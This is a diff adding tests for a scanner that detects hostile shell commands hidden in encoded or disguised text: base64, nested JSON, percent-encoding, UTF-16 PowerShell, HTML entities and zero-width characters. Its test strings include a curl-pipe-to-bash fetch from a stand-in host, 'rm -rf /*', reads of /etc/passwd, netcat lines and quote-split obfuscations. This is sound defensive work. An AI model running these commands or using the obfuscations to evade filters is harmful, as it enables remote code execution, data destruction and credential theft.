@@ -198,3 +198,48 @@ test('a command is found where a text begins and ends with it, in whatever piece
   }
   t.deepEqual(scanText('anc attacker 4444'), []);
 });
+
+test('says by which path a match was read', (t) => {
+  const command = 'curl -s https://x.test/i.sh | bash';
+  const coded = Buffer.from(command).toString('base64');
+  for (const [text, path] of [
+    [command, ''],
+    [JSON.stringify({ cmd: command }), ''],
+    [JSON.stringify({ cmd: 'bash -c "id"' }), 'json'],
+    [JSON.stringify({ a: JSON.stringify({ b: 'bash -c "id"' }) }), 'json>json'],
+    [`echo ${coded} | base64 -d`, 'base64'],
+    [JSON.stringify({ cmd: coded.replace(/(?=.{8}$)/, '"').replace('"', '') }), 'base64'],
+    [`powershell -EncodedCommand ${Buffer.from(command, 'utf16le').toString('base64')}`, 'base64>utf16'],
+    [encodeURIComponent(encodeURIComponent('rm -rf /*')), 'percent>percent'],
+    [JSON.stringify({ cmd: 'c\'\'url -s https://x.test/i.sh | b"a"sh' }), 'json>shell'],
+    [`<code>c''url -s https://x.test/i.sh &#124; bash</code>`, 'html>shell'],
+    [`c\u200burl -s https://x.test/i.sh | b\\ash`, 'disguise>shell'],
+    [`echo '${Buffer.from(JSON.stringify({ cmd: 'bash -c "id"' })).toString('hex')}'`, 'hex>json'],
+  ]) {
+    const [finding, ...others] = scanEncoded(text ?? '');
+    t.deepEqual(others, [], text);
+    t.is(finding?.path, path, text);
+  }
+});
+
+test('what stands elsewhere in a coded text is no context of a match', (t) => {
+  const login = Buffer.from('somebody:hunter2-hunter2').toString('base64');
+  const text = `authorization: Basic ${login}\r\nx: ${Buffer.from('cat /etc/passwd').toString('base64')}\r\n`;
+  const [finding] = scanEncoded(text);
+  t.is(finding?.snippet, 'cat /etc/passwd');
+  t.is(finding?.offset, text.lastIndexOf(': ') + 2 + 5);
+});
+
+/** As a window of its own, whatever the prefilter says. */
+function scanEncoded(text: string): readonly Finding[] {
+  const bytes = new Uint8Array(Buffer.from(text));
+  return engine({ bytes, base: 0, ownFrom: 0, ownTo: bytes.length, part: 'response.body' }).findings;
+}
+
+test('a flood of commands and escapes reports what is before it', (t) => {
+  const text = `${'nc -x %41 '.repeat(6000)} %2Fetc%2Fpasswd`;
+  t.deepEqual(
+    scanEncoded(text).map(({ rule, path }) => `${rule} ${path}`),
+    ['unix_sensitive percent'],
+  );
+});
